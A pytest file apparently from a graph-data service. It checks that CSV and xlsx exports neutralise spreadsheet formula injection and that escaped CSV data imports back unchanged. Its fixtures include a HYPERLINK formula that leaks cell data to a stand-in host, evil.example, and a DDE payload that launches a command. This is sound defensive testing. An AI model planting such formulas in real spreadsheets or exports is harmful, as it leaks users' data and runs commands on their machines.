"""Issue 11, point 5: exports never write a live formula.

The xlsx export writes every text as text (an inline string, never ``<f>``), also through
``/api/export``; the CSV export marks a text a spreadsheet would run with a leading ``'``
(OWASP), numbers stay numbers, and the importer drops exactly that mark, so the dataset
still imports back to the same graph.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest
from fastapi.testclient import TestClient

from graph_service.app import create_app
from graph_service.dataset import escape_formula, unescape_formula
from graph_service.domain import Edge, Node
from graph_service.store.embedded import EmbeddedStore
from importers.load import import_dataset
from importers.read import read_dataset
from viz.export import export

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"ดูรายละเอียด")'
DDE = "=cmd|' /C calc'!A0"
#: id -> name: each name starts as a formula would, or with the mark itself
NAMES = {
    "o1": "=1+1",
    "o2": "-5 องค์กร",
    "o3": "@x",
    "o4": "+66 81 234 5678",
    "o5": HYPERLINK,
    "o6": DDE,
    "o7": "'=already marked",
    "o8": "'plain apostrophe",
    "o9": "''",
    "o10": "a = b - c",
}
#: what the CSV cell holds for each name (checked by hand against the rule)
CSV_CELLS = {
    "o1": "'=1+1",
    "o2": "'-5 องค์กร",
    "o3": "'@x",
    "o4": "'+66 81 234 5678",
    "o5": "'" + HYPERLINK,
    "o6": "'" + DDE,
    "o7": "''=already marked",
    "o8": "'plain apostrophe",
    "o9": "'''",
    "o10": "a = b - c",
}


def hostile_store(path: Path) -> EmbeddedStore:
    """Entities named like formulas, an id and a property that start like one, and
    relationships with negative numbers (which must stay numbers)."""
    store = EmbeddedStore(path)
    nodes = [Node(i, "Organisation", {"name": n}) for i, n in NAMES.items()]
    nodes.append(Node("-x", "Organisation", {"name": "ขีดนำหน้า", "note": "=SUM(A1:A9)"}))
    edges = [
        Edge("o1", "PARTNERS_WITH", "o2", {"weight": -1.5, "note": "@SUM(1)"}),
        Edge("-x", "SUPPORTS", "o3", {"weight": -2, "role": "+บทบาท"}),
    ]
    store.write(nodes, edges)
    return store


def snapshot(store: EmbeddedStore) -> tuple[list, list]:
    sub = store.subgraph()
    nodes = sorted((n.id, n.kind, sorted(n.props.items())) for n in sub.nodes.values())
    edges = sorted((e.key, e.source, e.type, e.target, sorted(e.props.items())) for e in sub.edges)
    return nodes, edges


@pytest.mark.parametrize(
    "text", ["=1+1", "'", "''", "'''=", "'=", "-", "@", "\t=x", "\rx", "'ok", "", "plain"]
)
def test_the_mark_is_undone_exactly(text: str) -> None:
    assert unescape_formula(escape_formula(text)) == text


def test_csv_export_marks_formulas_and_keeps_numbers(tmp_path: Path) -> None:
    store = hostile_store(tmp_path / "s.db")
    folder = tmp_path / "out"
    result = export(store, "csv", folder)
    assert result.notes == []
    with (folder / "organisations.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = {r["id"]: r for r in csv.DictReader(fh)}
    assert {i: rows[i]["name"] for i in NAMES} == CSV_CELLS
    assert "-x" not in rows and rows["'-x"]["note"] == "'=SUM(A1:A9)"
    with (folder / "relationships.csv").open(encoding="utf-8-sig", newline="") as fh:
        rels = sorted(csv.DictReader(fh), key=lambda r: r["type"])
    assert [(r["source"], r["target"], r["weight"]) for r in rels] == [
        ("o1", "o2", "-1.5"),  # a negative number stays a number: no mark
        ("'-x", "o3", "-2"),
    ]
    assert (rels[0]["note"], rels[1]["role"]) == ("'@SUM(1)", "'+บทบาท")
    # no cell of any file starts as a formula would
    for f in folder.iterdir():
        with f.open(encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    number = cell.lstrip("-").replace(".", "", 1).isdigit()
                    assert number or cell[:1] not in "=+-@\t\r" or cell == "", (f.name, cell)


def test_csv_export_imports_back_to_the_same_graph(tmp_path: Path) -> None:
    store = hostile_store(tmp_path / "s.db")
    folder = tmp_path / "out"
    export(store, "csv", folder)
    again = EmbeddedStore(tmp_path / "again.db")
    report = import_dataset(again, folder)
    assert report.problems == [] and report.warnings == []
    assert snapshot(again) == snapshot(store)
    sub = again.subgraph()
    assert sub.nodes["o5"].name == HYPERLINK
    assert sub.nodes["o7"].name == "'=already marked"
    assert sub.nodes["o8"].name == "'plain apostrophe"
    weights = sorted(e.props["weight"] for e in sub.edges)
    assert weights == [-2, -1.5] and isinstance(weights[0], int)


def test_a_user_csv_with_a_leading_apostrophe_keeps_it_unless_a_formula_follows(
    tmp_path: Path,
) -> None:
    folder = tmp_path / "ds"
    folder.mkdir()
    (folder / "people.csv").write_text(
        "id,name,note\np1,'O Brien,'=1+1\np2,'',it's\n", encoding="utf-8"
    )
    tables, problems = read_dataset(folder)
    assert problems == []
    rows = [r.values for r in tables[0].rows]
    assert rows == [
        {"id": "p1", "name": "'O Brien", "note": "=1+1"},
        {"id": "p2", "name": "'", "note": "it's"},
    ]


def xlsx_cells(data: bytes) -> list[openpyxl.cell.cell.Cell]:
    wb = openpyxl.load_workbook(io.BytesIO(data))  # not data_only: formulas would show
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value]


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return "".join(
            zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/sheet")
        )


def check_no_formula(data: bytes) -> None:
    xml = sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml
    cells = xlsx_cells(data)
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert set(NAMES.values()) <= texts
    for c in cells:
        assert c.data_type != "f", c.coordinate
        if isinstance(c.value, str) and c.value[:1] in "=+-@":
            assert c.quotePrefix, c.coordinate
    weights = sorted(c.value for c in cells if isinstance(c.value, (int, float)) and c.value < 0)
    assert weights == [-2, -1.5]  # numbers stay numbers


def test_xlsx_export_writes_text_never_a_formula(tmp_path: Path) -> None:
    store = hostile_store(tmp_path / "s.db")
    path = tmp_path / "out.xlsx"
    export(store, "xlsx", path)
    data = path.read_bytes()
    check_no_formula(data)
    names = {
        row[0].value: row[3].value
        for row in openpyxl.load_workbook(io.BytesIO(data))["entities"].iter_rows(min_row=2)
    }
    assert {i: names[i] for i in NAMES} == NAMES


def test_xlsx_from_the_service_writes_text_never_a_formula(tmp_path: Path) -> None:
    store = hostile_store(tmp_path / "s.db")
    with TestClient(create_app(store=store)) as client:
        response = client.get("/api/export?format=xlsx")
        assert response.status_code == 200
        check_no_formula(response.content)
        zipped = client.get("/api/export?format=csv")
    with zipfile.ZipFile(io.BytesIO(zipped.content)) as zf:
        text = zf.read("organisations.csv").decode("utf-8-sig")
    rows = {r["id"]: r["name"] for r in csv.DictReader(io.StringIO(text, newline=""))}
    assert rows["o5"] == "'" + HYPERLINK and rows["o2"] == "'-5 องค์กร"
    store.close()
